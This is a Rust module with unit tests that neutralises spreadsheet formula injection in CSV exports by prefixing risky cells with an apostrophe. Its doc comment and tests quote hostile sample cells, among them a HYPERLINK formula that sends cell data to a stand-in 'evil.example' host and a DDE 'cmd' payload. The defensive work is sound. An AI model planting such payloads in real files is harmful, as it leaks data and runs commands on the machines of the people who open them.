//! CSV that opens safely in a spreadsheet.
//!
//! A cell that begins with `=`, `+`, `-` or `@` is a formula to Excel,
//! LibreOffice Calc and Google Sheets, and so is one beginning with a tab
//! or a carriage return after trimming by some of them: a conclusion that
//! begins `=HYPERLINK("http://evil.example/?"&A1,"Click")` would be a live
//! link in whoever opens the open-data file. Following OWASP's guidance on
//! CSV injection (<https://owasp.org/www-community/attacks/CSV_Injection>),
//! such a cell is written with a leading apostrophe, which spreadsheets
//! read as "text" and do not show. Numbers are left as they are: a cell
//! that is a whole decimal number (`-3`, `+2.5`, `-1e-3`) is inert.
//!
//! Every CSV Bagalau writes for people to open goes through [`Writer`], so
//! the rule holds everywhere.

use std::borrow::Cow;

/// The cell as written: neutralised with a leading `'` if a spreadsheet
/// would take it for a formula.
pub fn cell(text: &str) -> Cow<'_, str> {
    if is_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Whether a spreadsheet would evaluate the cell.
pub fn is_formula(text: &str) -> bool {
    match text.chars().next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !is_number(text),
        _ => false,
    }
}

fn is_number(text: &str) -> bool {
    // Only plain decimal notation: no `inf`, `nan` or hexadecimal.
    text.bytes()
        .all(|b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'e' | b'E'))
        && text.parse::<f64>().is_ok_and(f64::is_finite)
}

/// A CSV writer whose every field goes through [`cell`].
#[derive(Debug)]
pub struct Writer<W: std::io::Write> {
    inner: csv::Writer<W>,
}

impl<W: std::io::Write> Writer<W> {
    pub fn from_writer(w: W) -> Self {
        Writer {
            inner: csv::Writer::from_writer(w),
        }
    }

    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.inner
            .write_record(record.into_iter().map(|f| cell(f.as_ref()).into_owned()))
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// The underlying writer, once everything is flushed to it.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

impl Writer<std::fs::File> {
    pub fn from_path(path: impl AsRef<std::path::Path>) -> csv::Result<Self> {
        Ok(Writer {
            inner: csv::Writer::from_path(path)?,
        })
    }

    /// A writer of rows of any length: for rows kept as they were read,
    /// which may have more or fewer fields than their header.
    pub fn flexible_from_path(path: impl AsRef<std::path::Path>) -> csv::Result<Self> {
        Ok(Writer {
            inner: csv::WriterBuilder::new().flexible(true).from_path(path)?,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_and_text_are_not() {
        let cases = [
            (r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#, true),
            ("+1+1", true),
            ("-2+3+cmd|' /C calc'!A0", true),
            ("@SUM(A1:A9)", true),
            ("\t=1+1", true),
            ("\r=1+1", true),
            ("-", true),
            ("-inf", true),
            ("-nan", true),
            ("-3", false),
            ("+2.5", false),
            ("-1e-3", false),
            ("1+1", false),
            ("Қаржы министрлігі", false),
            ("", false),
            ("a=b", false),
        ];
        for (text, formula) in cases {
            assert_eq!(is_formula(text), formula, "{text:?}");
            let written = cell(text);
            assert_eq!(
                written.starts_with('\'') && !text.starts_with('\''),
                formula
            );
        }
    }

    #[test]
    fn the_writer_neutralises_every_field() {
        let mut w = Writer::from_writer(Vec::new());
        w.write_record(["minfin", "=1+1", "-5", "@x"]).unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(text, "minfin,'=1+1,-5,'@x\n");
    }
}
